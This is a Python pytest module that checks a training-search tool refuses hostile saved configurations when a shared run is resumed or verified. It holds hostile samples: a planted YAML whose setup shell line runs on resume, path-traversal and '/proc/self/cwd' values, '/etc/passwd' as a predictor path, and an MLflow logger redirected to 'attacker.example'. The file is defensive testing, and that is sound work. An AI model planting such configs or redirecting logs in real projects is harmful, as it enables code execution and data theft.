"""Issue 42 §1-2: a config-group value read from disk is a name, never a path; launch-only holds on every copy.

Attacks replayed on a shared copy of a finished run:
- §1 a saved `dispatch`, `evaluator.trainer` or `search.coevolve.trainer` given as a path (absolute, `../...`,
  `/proc/self/cwd/<run>/evil`) to a YAML planted in the run folder that names SubmititTrainer with a
  `parameters.local_setup` shell line: `forge-search resume=` (train mode, co-evolving) and `forge-verify run=`
  refuse in one line naming the key, the line never runs, nothing changes;
- §1 the same for every other group key (backend, space, protocol, corpus, logger, backend.hardware), a checkpoint's
  `coevolution.predictor_path` and a label's weights `checkpoint` outside the run;
- §2 a top-level `logger` edited inside `state/checkpoint.json` only (config.yaml left clean): a CSVLogger
  `save_dir` outside the run, an MLflow `tracking_uri`; and a run whose only config copy is `.hydra/config.yaml`.
"""
from __future__ import annotations

import json
import re
import os
import shutil
from pathlib import Path

import pytest
import yaml

from forge import plugins
from forge.runtime.config import conf_dir, group_yaml, is_name
from forge.errors import ForgeError
from forge.runtime.launch_only import LaunchOnlyError, check_names, check_saved
from tests.test_launch_only import FAKES, SUBMITIT, _hostile
from tests.test_security import _cli, _tree, finished_run  # noqa: F401  (the module-scoped fixture)


def _planted(run: Path, witness: Path) -> Path:
    """The YAML an attacker leaves in the run folder: a trainer whose setup line touches `witness`."""
    (run / "evil.yaml").write_text(yaml.safe_dump({"_target_": SUBMITIT, "cluster": "local",
                                                   "parameters": {"local_setup": [f"touch {witness}"]}}))
    return run / "evil"


def _spellings(stem: Path) -> dict[str, str]:
    """Three ways a saved group value reaches `stem`.yaml from conf/dispatch/<value>.yaml."""
    return {"absolute": str(stem), "dotdot": os.path.relpath(stem, conf_dir() / "dispatch"),
            "proc-cwd": "/proc/self/cwd/" + os.path.relpath(stem, Path.cwd())}


def _live(command: str, run: Path) -> dict:
    live = ({"resume": str(run), "progress": False} if command == "resume"
            else {"run": str(run), "measure": "none", "k": 1, "control": 0})
    live["plugins"] = FAKES
    plugins.trust(live)
    return live


@pytest.mark.parametrize("spelling", ["absolute", "dotdot", "proc-cwd"])
@pytest.mark.parametrize("where, command", [("dispatch", "resume"), ("evaluator.trainer", "resume"),
                                            ("search.coevolve.trainer", "resume"), ("dispatch", "verify"),
                                            ("evaluator.trainer", "verify")])
def test_a_saved_group_value_that_is_a_path_is_refused_and_the_planted_yaml_never_runs(
        finished_run, tmp_path, spelling, where, command):
    from search.cli import run as run_search
    from search.verify import run as run_verify

    witness, dest = tmp_path / "pwned", tmp_path / "shared-run"
    hostile = _hostile(finished_run, dest, _spellings(dest / "evil")[spelling], where)
    _planted(hostile, witness)
    if where.startswith("search.coevolve"):  # a co-evolving run: its trainer is built on resume
        for f in (hostile / "config.yaml", hostile / "state/checkpoint.json"):
            data = (yaml.safe_load if f.suffix == ".yaml" else json.loads)(f.read_text())
            cfg = data if f.suffix == ".yaml" else data["config"]
            cfg["search"]["coevolve"]["every"] = 1
            f.write_text(yaml.safe_dump(data) if f.suffix == ".yaml" else json.dumps(data))
    before = _tree(hostile)
    with pytest.raises(LaunchOnlyError, match=rf"the saved {where} = .* is refused: a config-group value read .* "
                                              r"is a name, never a path; allowed: local \| ray \| submitit") as e:
        (run_search if command == "resume" else run_verify)(_live(command, hostile))
    assert "\n" not in str(e.value) and isinstance(e.value, ForgeError)
    assert not witness.exists() and _tree(hostile) == before


@pytest.mark.parametrize("key, group", [("backend", "backend"), ("space", "space"), ("protocol", "protocol"),
                                        ("corpus", "corpus"), ("logger", "logger"), ("workload", "workload"),
                                        ("backend.hardware", "hardware"), ("evaluator.trainer", "dispatch")])
@pytest.mark.parametrize("value", ["/tmp/evil", "../../evil", "/proc/self/cwd/run/evil", "sub/evil", ".hidden"])
def test_every_group_key_takes_a_known_name_only(key, group, value):
    saved: dict = {}
    node = saved
    *head, last = key.split(".")
    for part in head:
        node = node.setdefault(part, {})
    node[last] = value
    with pytest.raises(LaunchOnlyError, match=rf"the saved {key} = .*allowed: .*conf/{group}/"):
        check_names(saved, "resume=x")
    assert group_yaml(group, value) is None  # the loader itself never opens a path either
    node[last] = sorted(p.stem for p in (conf_dir() / group).glob("*.yaml"))[0]
    check_names(saved, "resume=x")  # a shipped name passes


def test_a_name_on_the_launched_searchpath_is_known(tmp_path):
    from hydra import compose, initialize_config_module
    from hydra.core.hydra_config import HydraConfig

    (tmp_path / "dispatch").mkdir()
    (tmp_path / "dispatch/mine.yaml").write_text("_target_: forge.labelling.dispatch.LocalTrainer\n")
    with pytest.raises(LaunchOnlyError, match=re.escape("allowed: local | ray | submitit (")):
        check_names({"dispatch": "mine"}, "resume=x")  # no searchpath launched: unknown
    with initialize_config_module(config_module="forge_conf", version_base="1.3"):
        cfg = compose("forge-search", overrides=[f"hydra.searchpath=[file://{tmp_path}]"], return_hydra_config=True)
    HydraConfig.instance().set_config(cfg)
    try:
        check_names({"dispatch": "mine"}, "resume=x")
        assert group_yaml("dispatch", "mine") == {"_target_": "forge.labelling.dispatch.LocalTrainer"}
        with pytest.raises(LaunchOnlyError, match=re.escape("allowed: local | mine | ray | submitit (")):
            check_names({"dispatch": str(tmp_path / "dispatch/mine")}, "resume=x")
    finally:
        HydraConfig.instance().cfg = None


def test_a_name_is_never_a_path():
    assert all(is_name(n) for n in ("local", "iha-tiny", "a100-40gb", "forgeformer-iha-paper-all"))
    assert not any(is_name(n) for n in ("", "/x", "../x", "a/b", "a\\b", ".x", "..", "x\0", 3, None))


def test_the_loaders_refuse_a_path_as_a_name(tmp_path):
    """Defence in depth: each place a group name picks a file refuses a path, even with no check before it."""
    from backends.registry import backend_config
    from backends.interface import BackendError
    from forge.genomes.genome import GenomeError
    from forge.spaces.space import load_space
    from search.components import build_trainer
    from search.errors import SearchConfigError

    (tmp_path / "evil.yaml").write_text(yaml.safe_dump({"_target_": SUBMITIT}))
    stem = str(tmp_path / "evil")
    with pytest.raises(SearchConfigError, match="dispatch = .* is unknown; allowed: local, ray, submitit"):
        build_trainer({"dispatch": stem, "protocol": {"a": 1}, "corpus": {"a": 1}})
    with pytest.raises(BackendError, match="is unknown"):
        backend_config(stem)
    with pytest.raises(GenomeError, match="is unknown"):
        load_space(stem)


def test_a_checkpoints_predictor_path_is_its_own_state_file_never_a_path(tmp_path):
    from search.coevolution import saved_predictor
    from search.errors import SearchConfigError

    moved = tmp_path / "moved-run"
    assert saved_predictor(moved, "/elsewhere/run/state/surrogate-v3") == moved / "state/surrogate-v3"
    assert saved_predictor(moved, None) is None
    for bad in ("/etc/passwd", str(tmp_path / "outside/evil"), "../surrogate-v3x", ["surrogate-v1"]):
        with pytest.raises(SearchConfigError, match="coevolution.predictor_path = .* is refused; allowed: state/"):
            saved_predictor(moved, bad)


def test_a_labels_weights_checkpoint_must_be_that_genomes_file(tmp_path):
    from search.export import _trained_weights

    (tmp_path / "secret.pt").write_bytes(b"x")
    (tmp_path / "g1.pt").write_bytes(b"x")
    assert _trained_weights("g1", None, {"g1": {"provenance": {"checkpoint": str(tmp_path / "secret.pt")}}}) is None
    assert _trained_weights("g1", None, {"g1": {"provenance": {"checkpoint": str(tmp_path / "g1.pt")}}}) \
        == tmp_path / "g1.pt"


# ---------------------------------------------------------------- §2 every copy, every logger
def _edit_checkpoint_only(finished_run: Path, dest: Path, logger: dict) -> Path:
    shutil.copytree(finished_run, dest)
    ck = json.loads((dest / "state/checkpoint.json").read_text())
    ck["config"]["logger"] = logger
    (dest / "state/checkpoint.json").write_text(json.dumps(ck))
    return dest


@pytest.mark.parametrize("logger, key", [
    ({"_target_": "lightning.pytorch.loggers.CSVLogger", "save_dir": "{outside}"}, "logger.save_dir"),
    ({"_target_": "lightning.pytorch.loggers.MLFlowLogger", "experiment_name": "forge",
      "tracking_uri": "http://attacker.example:5000"}, "logger.tracking_uri")])
def test_a_logger_edited_inside_the_checkpoint_is_refused_on_resume(finished_run, tmp_path, logger, key):
    from search.cli import run as run_search

    outside = tmp_path / "outside"
    node = {k: v.format(outside=outside) for k, v in logger.items()}
    hostile = _edit_checkpoint_only(finished_run, tmp_path / "shared-run", node)
    assert yaml.safe_load((hostile / "config.yaml").read_text())["logger"] != node  # config.yaml stays clean
    before = _tree(hostile)
    with pytest.raises(LaunchOnlyError, match=rf"the saved {key} = .* is refused"):
        run_search(_live("resume", hostile))
    assert not outside.exists() and _tree(hostile) == before


def test_a_shipped_logger_or_the_launched_one_passes():
    for name in ("csv", "tensorboard", "mlflow"):  # the class is the launched command's (issue 50 §2)
        check_saved({"logger": group_yaml("logger", name)}, {"logger": name}, "resume=x", "forge-search resume=x")
    check_saved({"logger": group_yaml("logger", "csv")}, {}, "resume=x", "forge-search resume=x")  # the default
    mine = {"_target_": "lightning.pytorch.loggers.CSVLogger", "save_dir": "/my/logs"}
    check_saved({"logger": mine}, {"logger": mine}, "resume=x", "forge-search resume=x")
    with pytest.raises(LaunchOnlyError, match="logger.save_dir"):
        check_saved({"logger": mine}, {"logger": group_yaml("logger", "csv")}, "resume=x", "forge-search resume=x")


def test_a_run_whose_only_config_is_hydras_copy_is_checked_too(finished_run, tmp_path):
    """Killed before its first checkpoint and config.yaml: resume reads `.hydra/config.yaml`, checked the same."""
    from search.cli import run as run_search

    witness = tmp_path / "pwned"
    node = {"_target_": SUBMITIT, "parameters": {"local_setup": [f"touch {witness}"]}}
    hostile = _hostile(finished_run, tmp_path / "shared-run", node)
    cfg = yaml.safe_load((hostile / "config.yaml").read_text())
    for name in ("state", "config.yaml", "history.jsonl", "archive.jsonl", "pareto.jsonl", "summary.json"):
        shutil.rmtree(hostile / name) if (hostile / name).is_dir() else (hostile / name).unlink(missing_ok=True)
    (hostile / ".hydra").mkdir(exist_ok=True)
    (hostile / ".hydra/config.yaml").write_text(yaml.safe_dump(cfg))
    before = _tree(hostile)
    with pytest.raises(LaunchOnlyError, match="the saved dispatch.parameters.local_setup"):
        run_search(_live("resume", hostile))
    assert not witness.exists() and _tree(hostile) == before


@pytest.mark.slow  # a fresh interpreter (torch, Hydra)
@pytest.mark.parametrize("app, arg", [("forge-search", "resume"), ("forge-verify", "run")])
def test_the_cli_refuses_a_group_value_that_is_a_path_in_one_line(finished_run, tmp_path, app, arg):
    witness, dest = tmp_path / "pwned", tmp_path / "shared-run"
    hostile = _hostile(finished_run, dest, "/proc/self/cwd/shared-run/evil")  # the command runs in tmp_path
    _planted(hostile, witness)
    before = _tree(hostile)
    p = _cli(app, f"{arg}={hostile}", "measure=none" if app == "forge-verify" else "progress=false",
             *(f"+plugins.{k}=[{v[0]}]" for k, v in FAKES.items()), cwd=tmp_path)
    lines = p.stderr.strip().splitlines()
    assert p.returncode == 2 and len(lines) == 1, p.stderr[-2000:]
    assert "the saved dispatch = " in lines[0] and "is a name, never a path" in lines[0]
    assert not witness.exists() and _tree(hostile) == before
